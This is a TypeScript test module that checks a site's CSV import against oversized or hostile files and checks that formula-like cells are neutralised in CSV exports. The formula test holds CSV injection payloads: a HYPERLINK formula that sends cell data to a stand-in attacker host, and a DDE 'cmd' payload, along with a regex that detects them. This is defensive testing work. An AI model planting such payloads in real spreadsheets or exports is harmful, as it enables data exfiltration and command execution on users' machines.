import type { SiteServer } from '../../load/site-server.ts';
import { hostileTables } from './hostile-tables.ts';
import { runToEnd, sendTable } from './send-import.ts';

/** What one part of the attack came to. */
export interface Found {
  tried: number;
  broken: string[];
  figures?: string[];
  milliseconds?: number[];
}

const maxSeconds = 35;
const mostMegabytes = 250;

/** Hostile files get a clear answer, within bounds of time and of the server's memory. */
export async function hostile(server: SiteServer, cookie: string): Promise<Found> {
  const broken: string[] = [];
  const milliseconds: number[] = [];
  const before = server.residentMegabytes() ?? 0;
  let most = before;
  const files = hostileTables();
  for (const { what, table, name = 'list.csv', pictures, status, says } of files) {
    const answer = await sendTable(server, cookie, table, { name, ...(pictures && { pictures }) });
    milliseconds.push(answer.milliseconds);
    most = Math.max(most, server.residentMegabytes() ?? 0);
    if (answer.status !== status) broken.push(`${what}: ${answer.status} ${answer.text.slice(0, 200)}`);
    if (says && !says.test(answer.text)) broken.push(`${what} is told: ${answer.text.slice(0, 200)}`);
    if (answer.milliseconds > maxSeconds * 1000) broken.push(`${what} took ${Math.round(answer.milliseconds)} ms`);
    if (answer.data?.state !== 'checked' || answer.data.problem_count > 0) continue;
    const run = await runToEnd(server, cookie, answer.data.id);
    if (pictures && run.data?.state !== 'checked') broken.push(`${what} was imported`);
  }
  if (most - before > mostMegabytes) broken.push(`The server grew from ${before} to ${most} MB`);
  return {
    tried: files.length,
    broken,
    figures: [
      `Hostile files: ${before} MB before, ${most} MB at most; the slowest took ${Math.round(Math.max(...milliseconds))} ms`,
    ],
  };
}

/** What looks like a formula is a text here, and no formula in what is exported. */
export async function formulas(server: SiteServer, cookie: string): Promise<Found> {
  const cells = ['=HYPERLINK("http://evil.example/?x="&A1)', "+1+cmd|' /C calc'!A0", '@SUM(1)', '-2+3', '\t=1+1'];
  const table = ['Name,Description,Priority', ...cells.map((cell) => `"${cell.replaceAll('"', '""')}",Text,1`)];
  const { data, text } = await sendTable(server, cookie, Buffer.from(table.join('\n')));
  if (!data) return { tried: cells.length, broken: [`Formulas were not read: ${text.slice(0, 200)}`] };
  await runToEnd(server, cookie, data.id);
  const file = await fetch(`${server.address}/api/admin/content/startup/export/?format=csv`, { headers: { cookie } });
  const lines = (await file.text()).split(/\r?\n/);
  // A phone number is none.
  const open = lines.flatMap((line) => /(?:^|,)"?(?:[=@\t]|[+-](?![\d ]+"?(?:,|$)))[^,]*/.exec(line)?.[0] ?? []);
  return { tried: cells.length, broken: open.map((cell) => `The export holds a formula: ${cell.slice(0, 80)}`) };
}
